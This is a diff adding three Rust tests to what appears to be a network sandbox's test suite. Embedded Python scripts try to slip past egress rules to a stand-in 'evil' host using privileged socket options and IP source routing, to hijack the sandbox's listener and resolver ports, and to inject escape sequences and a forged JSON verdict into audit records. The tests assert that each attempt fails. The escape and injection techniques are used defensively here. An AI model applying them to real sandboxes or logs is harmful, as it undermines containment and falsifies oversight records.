@@ -63,6 +63,114 @@ attempt('fast open', fast_open)
     });
 }
 
+/// H82, from within one socket: marks, transparency, devices, source routes, foreign sources, other priorities. What
+/// takes power over the namespace is refused; what does not, changes nothing.
+#[test]
+fn h82_socket_options_past_the_rules() {
+    World::each(|world| {
+        let outcome = attack(
+            world,
+            world.run().allow("allowed.rig"),
+            "
+SO_MARK, SO_BINDTODEVICE, IP_TRANSPARENT, IPV6_TRANSPARENT, SO_DONTROUTE = 36, 25, 19, 75, 5
+IP_FREEBIND, IP_OPTIONS, IP_TOS = 15, 4, 1
+ours = struct.pack('=I', 0x65786561)
+
+def with_option(level, option, value, bind=None):
+    s = socket.socket()
+    s.settimeout(30)
+    s.setsockopt(level, option, value)
+    if bind:
+        s.bind(bind)
+    s.connect((EVIL, 80))
+    s.sendall(request('evil.rig'))
+    return first_line(drain(s))
+
+attempt('mark', lambda: with_option(socket.SOL_SOCKET, SO_MARK, ours))
+attempt('transparent', lambda: with_option(socket.IPPROTO_IP, IP_TRANSPARENT, 1))
+attempt('transparent6', lambda: socket.socket(socket.AF_INET6).setsockopt(41, IPV6_TRANSPARENT, 1))
+attempt('device', lambda: with_option(socket.SOL_SOCKET, SO_BINDTODEVICE, b'lo'))
+attempt('route', lambda: with_option(socket.SOL_SOCKET, SO_DONTROUTE, 1))
+attempt('priority', lambda: with_option(socket.IPPROTO_IP, IP_TOS, 0xb8))
+attempt('source', lambda: with_option(socket.IPPROTO_IP, IP_FREEBIND, 1, (ALLOWED, 0)))
+hop, final = socket.inet_aton(ALLOWED), socket.inet_aton(EVIL)
+attempt('source route', lambda: with_option(socket.IPPROTO_IP, IP_OPTIONS, b'\\x83\\x0b\\x04' + hop + final + b'\\x00'))
+",
+        );
+        for power in ["mark", "transparent", "transparent6"] {
+            assert_answer(&outcome, power, &["EPERM"]);
+        }
+        for harmless in ["device", "route", "priority", "source", "source route"] {
+            assert_answer(&outcome, harmless, &["HTTP/1.1 403", "refused", "E", "timeout"]);
+        }
+        assert_answer(&outcome, "device", &["HTTP/1.1 403"]);
+        world.evil.assert_untouched();
+    });
+}
+
+/// A sandbox that serves on every address cannot take the place of our listener, or of our resolver.
+#[test]
+fn h82_listening_in_our_place() {
+    World::each(|world| {
+        let outcome = attack(
+            world,
+            world.run().allow("allowed.rig"),
+            "
+def listen(address, port, kind=socket.SOCK_STREAM):
+    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind)
+    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
+        s.setsockopt(socket.SOL_SOCKET, option, 1)
+    s.bind((address, port))
+    if kind == socket.SOCK_STREAM:
+        s.listen()
+    kept.append(s)
+    return 'listens'
+kept = []
+for address in ('0.0.0.0', '198.18.0.1', EVIL, '::', EVIL6):
+    attempt(f'ours {address}', lambda: listen(address, 65533))
+    attempt(f'resolver {address}', lambda: listen(address, 53, socket.SOCK_DGRAM))
+attempt('own port', lambda: listen('0.0.0.0', 8080))
+tcp('through own port', EVIL, 8080, request('evil.rig'))
+attempt('resolver still', lambda: ask('allowed.rig', server=EVIL)[0])
+",
+        );
+        for address in ["0.0.0.0", "198.18.0.1", &world.evil.address.to_string(), "::"] {
+            assert_answer(&outcome, &format!("ours {address}"), &["EADDRINUSE", "EACCES", "EADDRNOTAVAIL"]);
+            assert_answer(&outcome, &format!("resolver {address}"), &["EADDRINUSE", "EACCES", "EADDRNOTAVAIL"]);
+        }
+        assert_answer(&outcome, "through own port", &["HTTP/1.1 403"]);
+        assert_answer(&outcome, "resolver still", &["0"]);
+        world.evil.assert_untouched();
+    });
+}
+
+/// What the sandbox names cannot forge a line of the record, or move the user's cursor.
+#[test]
+fn hostile_names_stay_text_in_the_record() {
+    World::each(|world| {
+        let outcome = attack(
+            world,
+            world.run().allow("allowed.rig"),
+            r#"
+escape = '\x1b[2J'
+forged = '\n{"event":"verdict","verdict":"allow","name":"forged.rig"}\n'
+for what in (escape, forged, '\r\x9b1m', '"', '\\'):
+    attempt('dns', lambda: ask(what + '.evil.rig')[0])
+    tcp('path', EVIL, 80, request('allowed.rig', '/' + what))
+    tcp('host', EVIL, 80, request(what + '.evil.rig'))
+    tcp('method', EVIL, 80, request('allowed.rig', method='GET' + what))
+    greet('sni', EVIL, 443, records(hello((what + '.rig').encode('latin-1'))))
+"#,
+        );
+        assert!(!outcome.records().iter().any(|record| record["name"] == "forged.rig"), "{outcome:#?}");
+        for text in [&outcome.stderr, &outcome.audit] {
+            let control = |c: char| c.is_control() && c != '\n';
+            assert!(!text.contains(control), "a control character in {text:?}");
+        }
+        world.evil.assert_untouched();
+    });
+}
+
 /// H83: loopback inside is the sandbox's own, and so is what the sandbox itself serves there.
 #[test]
 fn h83_loopback_is_the_sandboxs_own() {
